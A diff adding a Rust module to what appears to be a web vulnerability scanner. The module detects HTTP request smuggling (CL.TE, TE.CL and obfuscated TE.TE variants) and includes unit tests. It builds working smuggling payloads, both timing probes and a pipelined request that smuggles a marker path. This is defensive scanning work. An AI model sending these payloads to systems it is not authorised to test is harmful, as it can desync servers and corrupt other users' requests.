@@ -0,0 +1,384 @@
+use std::time::Duration;
+
+use regex::Regex;
+use tokio_rustls::TlsConnector;
+use url::Url;
+
+use crate::CUSTOMER;
+use crate::report::report::{Finding, SEVERITY, CONFIDENCE};
+use crate::sender::client::client;
+use crate::sender::crawler::Surface;
+use crate::sender::limiter::limiter;
+use crate::sender::suraw::{create_tls_connector, pipeline, raw, RawOptions};
+
+// Transfer-Encoding headers, plain first. A front-end and back-end that both speak chunked can still
+// disagree when one of them ignores an obfuscated variant (TE.TE)
+const TE_VARIANTS: &[(&str, &str)] = &[
+    ("plain", "Transfer-Encoding: chunked"),
+    ("space before colon", "Transfer-Encoding : chunked"),
+    ("tab separator", "Transfer-Encoding:\tchunked"),
+    ("quoted value", "Transfer-Encoding: \"chunked\""),
+    ("duplicate header", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
+    ("identity first", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked"),
+    ("lowercase name", "transfer-encoding: chunked"),
+    ("line folding", "X-Krk: x\r\n Transfer-Encoding: chunked"),
+    ("bare LF", "X-Krk: x\nTransfer-Encoding: chunked"),
+    ("xchunked", "Transfer-Encoding: xchunked"),
+];
+
+// Paths probed besides /, POST endpoints are where body parsing actually happens
+const MAX_PATHS: usize = 4;
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum TECHNIQUE {
+    // Front-end uses Content-Length, back-end uses Transfer-Encoding
+    CLTE,
+    // Front-end uses Transfer-Encoding, back-end uses Content-Length
+    TECL,
+}
+
+impl TECHNIQUE {
+    fn name(&self) -> &'static str {
+        match self {
+            TECHNIQUE::CLTE => "CL.TE",
+            TECHNIQUE::TECL => "TE.CL",
+        }
+    }
+
+    fn behaviour(&self) -> &'static str {
+        match self {
+            TECHNIQUE::CLTE => "front-end honours Content-Length, back-end honours Transfer-Encoding",
+            TECHNIQUE::TECL => "front-end honours Transfer-Encoding, back-end honours Content-Length",
+        }
+    }
+}
+
+pub struct SMUGGLER<'a> {
+    pub target: &'a CUSTOMER,
+    pub surface: &'a Surface,
+    pub headers: Option<String>,
+}
+
+struct Probe<'a> {
+    url: String,
+    host: String,
+    path: String,
+    headers: &'a str,
+    tls: &'a TlsConnector,
+}
+
+fn head(probe: &Probe, method: &str, path: &str) -> String {
+    format!(
+        "{} {} HTTP/1.1\r\nHost: {}\r\n{}Content-Type: application/x-www-form-urlencoded\r\n",
+        method, path, probe.host, probe.headers
+    )
+}
+
+// Request the back-end is left waiting on when the two ends disagree the way technique says,
+// with a control that has the same headers but framing both ends agree on
+fn timing_requests(probe: &Probe, technique: TECHNIQUE, te: &str) -> (String, String) {
+    let head = head(probe, "POST", &probe.path);
+    match technique {
+        // CL covers "1\r\nA" only, a chunked back-end then waits for the rest of the chunk
+        TECHNIQUE::CLTE => (
+            format!("{}Content-Length: 4\r\n{}\r\n\r\n1\r\nA\r\nX", head, te),
+            format!("{}Content-Length: 11\r\n{}\r\nConnection: close\r\n\r\n1\r\nA\r\n0\r\n\r\n", head, te),
+        ),
+        // Chunked front-end stops after the 0 chunk, a CL back-end waits for the sixth byte
+        TECHNIQUE::TECL => (
+            format!("{}Content-Length: 6\r\n{}\r\n\r\n0\r\n\r\nX", head, te),
+            format!("{}Content-Length: 5\r\n{}\r\nConnection: close\r\n\r\n0\r\n\r\n", head, te),
+        ),
+    }
+}
+
+// Attack smuggling a request for marker path, and the normal request of ours pipelined after it on
+// the same connection. Only our own follow-up can pick up the prefix
+fn differential_request(probe: &Probe, technique: TECHNIQUE, te: &str, marker: &str) -> (String, String) {
+    let head_post = head(probe, "POST", &probe.path);
+    let follow_up = format!(
+        "GET {} HTTP/1.1\r\nHost: {}\r\n{}Connection: close\r\n\r\n",
+        probe.path, probe.host, probe.headers
+    );
+    match technique {
+        TECHNIQUE::CLTE => {
+            let body = format!("0\r\n\r\nGET /{} HTTP/1.1\r\nX-Ignore: X", marker);
+            (format!("{}Content-Length: {}\r\n{}\r\n\r\n{}", head_post, body.len(), te, body), follow_up)
+        }
+        TECHNIQUE::TECL => {
+            let smuggled = format!(
+                "GET /{} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1",
+                marker, probe.host
+            );
+            let size = format!("{:x}", smuggled.len());
+            let body = format!("{}\r\n{}\r\n0\r\n\r\n", size, smuggled);
+            // A back-end going by Content-Length stops after the chunk size line and reads the chunk as a new request
+            let length = size.len() + 2;
+            (format!("{}Content-Length: {}\r\n{}\r\n\r\n{}", head_post, length, te, body), follow_up)
+        }
+    }
+}
+
+fn statuses(response: &str) -> Vec<u16> {
+    Regex::new(r"HTTP/1\.[01] (\d{3})")
+        .unwrap()
+        .captures_iter(response)
+        .filter_map(|caps| caps[1].parse().ok())
+        .collect()
+}
+
+// Back-end never answered, as opposed to a keep-alive connection idling after its response
+fn stalled(result: &Option<(String, Duration, bool)>) -> bool {
+    matches!(result, Some((response, _, true)) if response.is_empty())
+}
+
+async fn send(probe: &Probe<'_>, content: &str, wait: Duration) -> Option<(String, Duration, bool)> {
+    raw(&probe.url, content, wait, Some(probe.tls.clone())).await.ok()
+}
+
+// Timeout twice on the attack, never on the control
+async fn desync(probe: &Probe<'_>, technique: TECHNIQUE, te: &str, wait: Duration) -> Option<(String, Duration)> {
+    let (attack, control) = timing_requests(probe, technique, te);
+    let first = send(probe, &attack, wait).await;
+    if !stalled(&first) {
+        return None;
+    }
+    if stalled(&send(probe, &control, wait).await) {
+        return None;
+    }
+    let second = send(probe, &attack, wait).await;
+    if !stalled(&second) {
+        return None;
+    }
+    first.map(|(_, elapsed, _)| (attack, elapsed))
+}
+
+// Our follow-up request got the answer meant for the smuggled marker path
+async fn confirm(probe: &Probe<'_>, technique: TECHNIQUE, te: &str, wait: Duration, normal: u16) -> Option<(String, String)> {
+    let marker = format!("krk{}", rand::random::<u32>());
+    let requests = differential_request(probe, technique, te, &marker);
+    let requests = [requests.0, requests.1];
+    let options = RawOptions { read_timeout: wait, ..RawOptions::default() };
+    let responses = pipeline(&probe.url, &requests, &options, Some(probe.tls.clone())).await.ok()?;
+    match responses.as_slice() {
+        [_, second, ..] if second.status != normal && (second.status == 404 || second.status == 405) => Some((
+            requests.concat(),
+            responses.iter().map(|response| response.to_string()).collect::<Vec<_>>().concat(),
+        )),
+        _ => None,
+    }
+}
+
+async fn scan_path(probe: &Probe<'_>) -> Option<Finding> {
+    let wait = limiter().profile.timeout;
+    let baseline_request = format!(
+        "{}Content-Length: 3\r\nConnection: close\r\n\r\nx=1",
+        head(probe, "POST", &probe.path)
+    );
+    let baseline = send(probe, &baseline_request, wait).await?;
+    // Host that can't answer a plain request makes every timeout meaningless
+    if baseline.0.is_empty() {
+        return None;
+    }
+    let normal_request = format!(
+        "GET {} HTTP/1.1\r\nHost: {}\r\n{}Connection: close\r\n\r\n",
+        probe.path, probe.host, probe.headers
+    );
+    let normal = send(probe, &normal_request, wait)
+        .await
+        .and_then(|(response, _, _)| statuses(&response).first().copied())
+        .unwrap_or(200);
+
+    // CL.TE first: its timing probe can't poison a TE.CL pair, the other way round it can
+    for technique in [TECHNIQUE::CLTE, TECHNIQUE::TECL] {
+        for (variant, te) in TE_VARIANTS {
+            let (attack, elapsed) = match desync(probe, technique, te, wait).await {
+                Some(desync) => desync,
+                None => continue,
+            };
+            let kind = if *variant == "plain" { technique.name().to_string() } else { format!("TE.TE ({})", technique.name()) };
+            let mut finding = Finding {
+                url: format!("{}{}", probe.url.trim_end_matches('/'), probe.path),
+                method: "POST".to_string(),
+                parameter: "Transfer-Encoding".to_string(),
+                payload: te.to_string(),
+                detail: format!(
+                    "{}, {} transfer-encoding header; attack stalled {:.1}s twice against a {:.1}s baseline while the control answered",
+                    technique.behaviour(),
+                    variant,
+                    elapsed.as_secs_f64(),
+                    baseline.1.as_secs_f64()
+                ),
+                request: attack,
+                cwe: Some(444),
+                ..Finding::new("smuggling", &format!("HTTP request smuggling ({})", kind), SEVERITY::HIGH, CONFIDENCE::FIRM)
+            };
+            if let Some((request, response)) = confirm(probe, technique, te, wait, normal).await {
+                finding.confidence = CONFIDENCE::CONFIRMED;
+                finding.detail = format!("{}; pipelined follow-up was answered for the smuggled path", finding.detail);
+                finding.request = request;
+                finding.response = response;
+            }
+            return Some(finding);
+        }
+    }
+    None
+}
+
+impl SMUGGLER<'_> {
+    pub async fn run(self) -> Vec<Finding> {
+        let base = self.target.base_url();
+        let parsed = match Url::parse(&format!("{}/", base)) {
+            Ok(parsed) => parsed,
+            Err(_) => return vec![],
+        };
+        let host = match (parsed.host_str(), parsed.port()) {
+            (Some(host), Some(port)) => format!("{}:{}", host, port),
+            (Some(host), None) => host.to_string(),
+            _ => return vec![],
+        };
+        let tls = create_tls_connector();
+        let mut headers = self.headers.clone().unwrap_or_default();
+        if let Some(cookies) = client().cookie_header(&base) {
+            headers.push_str(&format!("Cookie: {}\r\n", cookies));
+        }
+        let origin = format!("{}://{}", parsed.scheme(), host);
+
+        let mut paths = vec!["/".to_string()];
+        for method in &self.surface.methods {
+            if method.name != "POST" || method.url == "Found in JavaScript" {
+                continue;
+            }
+            if let Ok(action) = parsed.join(&method.url) {
+                if action.host_str() == parsed.host_str() && !paths.contains(&action.path().to_string()) {
+                    paths.push(action.path().to_string());
+                }
+            }
+        }
+        paths.truncate(MAX_PATHS + 1);
+
+        // One path at a time, a desync probe running next to others would muddle the timings
+        let mut findings = vec![];
+        for path in paths {
+            let probe = Probe {
+                url: origin.clone(),
+                host: host.clone(),
+                path,
+                headers: &headers,
+                tls: &tls,
+            };
+            if let Some(finding) = scan_path(&probe).await {
+                findings.push(finding);
+                // Same front-end/back-end pair serves every path
+                break;
+            }
+        }
+        findings
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const HEAD: &str = "POST /login HTTP/1.1\r\nHost: target.example\r\nContent-Type: application/x-www-form-urlencoded\r\n";
+
+    fn probe(tls: &TlsConnector) -> Probe<'_> {
+        Probe {
+            url: "http://target.example/login".to_string(),
+            host: "target.example".to_string(),
+            path: "/login".to_string(),
+            headers: "",
+            tls,
+        }
+    }
+
+    // Content-Length value and body of a request
+    fn framing(request: &str) -> (usize, &str) {
+        let (head, body) = request.split_once("\r\n\r\n").unwrap();
+        let length = head
+            .lines()
+            .find_map(|line| line.strip_prefix("Content-Length: "))
+            .and_then(|value| value.trim().parse().ok())
+            .unwrap();
+        (length, body)
+    }
+
+    #[test]
+    fn timing_requests_are_byte_exact() {
+        let tls = create_tls_connector();
+        let probe = probe(&tls);
+        let te = "Transfer-Encoding: chunked";
+
+        let (attack, control) = timing_requests(&probe, TECHNIQUE::CLTE, te);
+        assert_eq!(attack, format!("{}Content-Length: 4\r\n{}\r\n\r\n1\r\nA\r\nX", HEAD, te));
+        assert_eq!(control, format!("{}Content-Length: 11\r\n{}\r\nConnection: close\r\n\r\n1\r\nA\r\n0\r\n\r\n", HEAD, te));
+
+        let (attack, control) = timing_requests(&probe, TECHNIQUE::TECL, te);
+        assert_eq!(attack, format!("{}Content-Length: 6\r\n{}\r\n\r\n0\r\n\r\nX", HEAD, te));
+        assert_eq!(control, format!("{}Content-Length: 5\r\n{}\r\nConnection: close\r\n\r\n0\r\n\r\n", HEAD, te));
+    }
+
+    #[test]
+    fn timing_lengths_hold_for_every_variant() {
+        let tls = create_tls_connector();
+        let probe = probe(&tls);
+        for (variant, te) in TE_VARIANTS {
+            // CL.TE: the front-end forwards "1\r\nA" alone, a chunked back-end waits for the rest
+            let (attack, control) = timing_requests(&probe, TECHNIQUE::CLTE, te);
+            let (length, body) = framing(&attack);
+            assert_eq!(&body[..length], "1\r\nA", "{}", variant);
+            let (length, body) = framing(&control);
+            assert_eq!(length, body.len(), "{}", variant);
+            assert!(body.ends_with("0\r\n\r\n"));
+
+            // TE.CL: the chunked body ends a byte before Content-Length does
+            let (attack, control) = timing_requests(&probe, TECHNIQUE::TECL, te);
+            let (length, body) = framing(&attack);
+            assert_eq!((length, &body[..length - 1]), (body.len(), "0\r\n\r\n"), "{}", variant);
+            let (length, body) = framing(&control);
+            assert_eq!((length, body), (5, "0\r\n\r\n"), "{}", variant);
+        }
+    }
+
+    #[test]
+    fn clte_differential_smuggles_after_the_last_chunk() {
+        let tls = create_tls_connector();
+        let probe = probe(&tls);
+        let te = "Transfer-Encoding: chunked";
+        let (attack, follow_up) = differential_request(&probe, TECHNIQUE::CLTE, te, "krk42");
+        let body = "0\r\n\r\nGET /krk42 HTTP/1.1\r\nX-Ignore: X";
+        assert_eq!(attack, format!("{}Content-Length: {}\r\n{}\r\n\r\n{}", HEAD, body.len(), te, body));
+        assert_eq!(body.len(), 37);
+        assert_eq!(follow_up, "GET /login HTTP/1.1\r\nHost: target.example\r\nConnection: close\r\n\r\n");
+    }
+
+    #[test]
+    fn tecl_differential_stops_the_back_end_after_the_size_line() {
+        let tls = create_tls_connector();
+        let probe = probe(&tls);
+        for (variant, te) in TE_VARIANTS {
+            let (attack, _) = differential_request(&probe, TECHNIQUE::TECL, te, "krk42");
+            let (length, body) = framing(&attack);
+
+            let (size, rest) = body.split_once("\r\n").unwrap();
+            assert_eq!(length, size.len() + 2, "{}", variant);
+            assert!(body[length..].starts_with("GET /krk42 HTTP/1.1\r\nHost: target.example\r\n"));
+
+            // The chunk size covers the smuggled request exactly, then the last chunk
+            let size = usize::from_str_radix(size, 16).unwrap();
+            assert!(rest[size..].starts_with("\r\n0\r\n\r\n"));
+            assert_eq!(rest.len(), size + "\r\n0\r\n\r\n".len());
+        }
+
+        let (attack, _) = differential_request(&probe, TECHNIQUE::TECL, "Transfer-Encoding: chunked", "krk42");
+        assert!(attack.contains("\r\n\r\n75\r\nGET /krk42 HTTP/1.1\r\n"), "{}", attack);
+        assert!(attack.contains("Content-Length: 4\r\n"));
+    }
+
+    #[test]
+    fn statuses_in_order() {
+        let response = "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\nHTTP/1.1 404 Not Found\r\n\r\n";
+        assert_eq!(statuses(response), vec![200, 404]);
+    }
+}